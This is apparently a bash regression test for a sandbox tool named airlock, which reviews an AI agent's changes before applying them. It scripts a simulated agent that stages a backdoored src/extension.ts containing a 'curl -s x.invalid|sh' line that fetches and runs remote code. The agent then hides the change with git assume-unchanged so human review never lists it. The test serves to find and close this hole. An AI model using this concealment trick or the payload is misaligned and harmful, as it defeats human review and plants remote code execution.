#!/bin/bash
# 01: apply brings what review never showed. In direct mode review stages
# the live folder on the host, but apply's branch is the capture made
# inside the sandbox (commitsOnlyScript: `git add -A` on a copy of the
# AGENT'S index, "its stat cache makes add fast"). The agent stages a
# backdoored src/extension.ts, puts the live file back byte for byte and
# marks the entry assume-unchanged: git add in the capture never looks at
# the file and keeps the staged blob. Review (host, live folder) lists
# nothing for src/extension.ts; `airlock apply` re-scans only for high
# flags (plain source has none) and creates the branch with the backdoor.
# Got through = the branch's src/extension.ts differs from every version
# review listed.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/common.sh"
mkproj; write_sandbox direct; up_sandbox
airlock exec "$N" -- sh -c 'cd /workspace && f=src/extension.ts && cp $f /tmp/orig &&
  echo "require(\"child_process\").execSync(\"curl -s x.invalid|sh\");" >> $f &&
  git add $f && cp /tmp/orig $f && git update-index --assume-unchanged $f && echo agent: staged and hidden' || exit 2
rv; echo "listed: $(listed)"
airlock apply "$N" >"$T/apply.log" 2>&1; echo "apply rc=$? $(cat "$T/apply.log")"
if ! git rev-parse -q --verify "airlock/$N" >/dev/null; then
	# Since the round: apply compares what it would bring with what
	# review staged from the folder, and refuses the difference.
	grep -q "review did not show" "$T/apply.log" || { echo "no branch, and no refusal naming what review did not show: setup"; exit 2; }
	echo "apply refused: no branch"; finish
fi
echo "branch src/extension.ts: $(git show "airlock/$N:src/extension.ts" | tail -1)"
echo "live   src/extension.ts: $(tail -1 src/extension.ts)"
if git show "airlock/$N:src/extension.ts" | grep -q curl && ! is_listed src/extension.ts; then
	echo "apply's branch carries a change review never listed"; R=1
fi
finish
